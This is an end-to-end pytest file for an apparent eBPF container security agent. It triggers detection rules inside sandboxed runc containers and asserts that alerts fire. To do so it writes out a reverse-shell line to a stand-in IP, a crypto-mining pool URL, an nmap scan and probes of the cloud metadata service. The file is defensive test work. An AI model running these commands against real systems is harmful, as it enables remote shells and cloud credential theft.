"""Built-in rules end to end: the real eBPF sensor, real runc containers, `vigil run`."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_e2e_agent import attached, free_port, wait_for
from vigil.lab import RuncContainer, build_busybox_rootfs

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root for eBPF and runc"),
    pytest.mark.skipif(
        not all(shutil.which(tool) for tool in ("runc", "clang", "bpftool")),
        reason="needs runc, clang and bpftool (scripts/install.sh)",
    ),
]

CONFIG = """
profiles: {learning_period: null}   # never locks: only rules raise alerts here
rules: {dedup_window: 60}
"""


@pytest.fixture
def agent(tmp_path: Path) -> Iterator[dict[str, Any]]:
    config = tmp_path / "agent.yaml"
    config.write_text(CONFIG)
    alerts = tmp_path / "alerts.jsonl"
    api = f"127.0.0.1:{free_port()}"
    with (tmp_path / "agent.log").open("w") as log:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "vigil",
                "run",
                "--config",
                str(config),
                "--data-dir",
                str(tmp_path / "data"),
                "--output",
                f"jsonl:{alerts}",
                "--listen",
                api,
            ],
            stdout=subprocess.DEVNULL,
            stderr=log,
        )
        try:
            wait_for(lambda: proc.poll() is not None or attached(f"http://{api}"), "the agent")
            assert proc.poll() is None, (tmp_path / "agent.log").read_text()
            yield {"alerts": alerts, "log": tmp_path / "agent.log"}
        finally:
            proc.send_signal(signal.SIGINT)
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()


def read_alerts(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines() if line]


def test_builtin_rules_fire_in_runc_containers(tmp_path: Path, agent: dict[str, Any]) -> None:
    rootfs = build_busybox_rootfs(tmp_path / "rootfs")
    for tool in ("apt-get", "nmap"):  # named like the real tools; busybox answers for them
        (rootfs / "bin" / tool).symlink_to("busybox")
    container_id = f"vigil-e2e-rules-{secrets.token_hex(3)}"
    annotations = {
        "io.kubernetes.pod.namespace": "e2e",
        "io.kubernetes.pod.name": "web-5f7c9d8b6-x7k2p",
        "io.kubernetes.container.name": "web",
    }
    with RuncContainer(
        container_id,
        rootfs,
        tmp_path / "bundle",
        ["/bin/sh", "-c", "while true; do sleep 1; done"],
        annotations=annotations,
        # Its own network namespace: no route anywhere, so the metadata connect fails at
        # once (ENETUNREACH) instead of hanging; a connect attempt is what the rule watches.
        host_network=False,
    ) as box:
        box.exec(["/bin/sh", "-c", "true bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
        box.exec(["/bin/sh", "-c", "true -o stratum+tcp://pool.example:3333 --donate-level 1"])
        box.exec(["/bin/apt-get", "install", "-y", "curl"])
        box.exec(["/bin/nmap", "-sS", "10.0.0.0/24"])
        box.exec(["/bin/wget", "-q", "-T", "1", "-O", "-", "http://169.254.169.254/latest/"])
        box.exec(["/bin/nc", "-w", "1", "169.254.169.254", "80"])  # the connect attempt
        wanted = {
            "Reverse shell command line",
            "Stratum mining URL on a command line",
            "Package manager run in a container",
            "Network reconnaissance tool run",
            "Cloud metadata queried by a command",
            "Cloud metadata service contacted",
        }

        def fired() -> dict[str, dict[str, Any]] | None:
            found = {a["rule"]: a for a in read_alerts(agent["alerts"]) if a["kind"] == "rule"}
            return found if wanted <= set(found) else None

        try:
            alerts = wait_for(fired, "the rule alerts", timeout=30)
        except AssertionError:
            seen = sorted({a["rule"] for a in read_alerts(agent["alerts"])})
            raise AssertionError(
                f"rules seen: {seen}\n{agent['log'].read_text()[-2000:]}"
            ) from None
    reverse = alerts["Reverse shell command line"]
    assert reverse["severity"] == "critical" and "T1059.004" in reverse["mitre"]
    assert reverse["container"]["id"] == container_id
    assert reverse["workload"]["namespace"] == "e2e"
    assert "/dev/tcp/203.0.113.9/4444" in reverse["process"]["cmdline"]
    metadata = alerts["Cloud metadata service contacted"]
    assert metadata["network"]["dest_ip"] == "169.254.169.254"
    assert metadata["mitre"] == ["T1552.005"]
    assert alerts["Package manager run in a container"]["process"]["exe"] == "/bin/apt-get"
